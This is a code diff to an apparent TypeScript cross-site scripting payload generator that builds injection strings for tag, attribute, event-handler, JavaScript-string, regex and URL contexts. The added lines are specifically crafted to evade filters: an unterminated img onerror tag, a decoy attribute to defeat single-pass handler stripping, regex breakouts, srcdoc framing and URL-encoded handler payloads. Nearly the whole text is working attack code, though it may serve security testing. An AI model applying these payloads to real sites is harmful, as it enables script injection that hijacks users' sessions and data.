@@ -7,6 +7,8 @@ const tags = (call: string): string[] => [
   `<svg/onload=${call}()>`,
   `<ScRiPt>${call}()</sCrIpT>`,
   `<details open ontoggle=${call}\`\`>`,
+  // For filters that take whole tags out: the next bracket of the page ends this one.
+  `<img src=x onerror=${call}()//`,
   // For filters that take a word out once.
   `<scr<script>ipt>${call}()</scr</script>ipt>`,
 ];
@@ -42,14 +44,16 @@ export function payloadsFor(context: Context, call: string): string[] {
         `</script>${tags(call)[1]}`,
       ];
     case 'handler':
-      return inHandler(context.code, context.quote, call);
+      return inHandler(context, call);
   }
 }
 
 const urlLike = /^(?:href|src|action|formaction|data)$/;
 
 function inAttribute(context: Extract<Context, { kind: 'attribute' }>, call: string): string[] {
-  const { quote, atStart, name } = context;
+  const { quote, atStart, name, loads } = context;
+  const hosted = loads ? [`${loads === 'host' ? '' : '//'}${call}.example/`] : [];
+  const framed = name === 'srcdoc' ? tags(call).slice(0, 2) : [];
   const asUrl =
     atStart && urlLike.test(name)
       ? [
@@ -72,9 +76,11 @@ function inAttribute(context: Extract<Context, { kind: 'attribute' }>, call: str
           `${quote} onmouseover=${call}() x=${quote}`,
           `${quote} autofocus onfocus=${call}\`\` x=${quote}`,
           `${quote}/onmouseover=${quote}${call}()`,
+          // For filters that take a handler out once.
+          `${quote} onx= onmouseover=${call}() x=${quote}`,
           `${quote}>${tags(call)[1]}`,
         ];
-  return [...asUrl, ...out];
+  return [...framed, ...hosted, ...asUrl, ...out];
 }
 
 function inCode(code: CodeContext, call: string): string[] {
@@ -97,6 +103,9 @@ function inCode(code: CodeContext, call: string): string[] {
         `\\");${call}()//`,
         `"}${call}();{"`,
       ];
+    case 'regex':
+      // Two strokes in a row would begin a comment.
+      return [`x/-${call}()-/x`, `x/;${call}();/x`, `x/;${call}()//`];
     case 'template':
       return [`\${${call}()}`, `\`-${call}()-\``];
     case 'line':
@@ -109,7 +118,10 @@ function inCode(code: CodeContext, call: string): string[] {
 }
 
 /** Inside an attribute the browser first decodes entities, so an escaped quote is as good as a quote. */
-function inHandler(code: CodeContext, quote: string, call: string): string[] {
+function inHandler(
+  { code, quote, inAddress }: Extract<Context, { kind: 'handler' }>,
+  call: string,
+): string[] {
   const plain = inCode(code, call);
   const entity = plain
     .slice(0, 3)
@@ -117,6 +129,10 @@ function inHandler(code: CodeContext, quote: string, call: string): string[] {
   const out = quote === '' ? [] : [`${quote} onmouseover=${call}() x=${quote}`];
   return [
     ...plain.filter((payload) => quote === '' || !payload.includes(quote)),
+    // An address is decoded before its code runs (WHATWG HTML, §7.4.2.3.2).
+    ...(inAddress
+      ? plain.slice(0, 2).map((payload) => encodeURIComponent(payload).replaceAll("'", '%27'))
+      : []),
     ...entity,
     ...out,
   ].slice(0, 8);
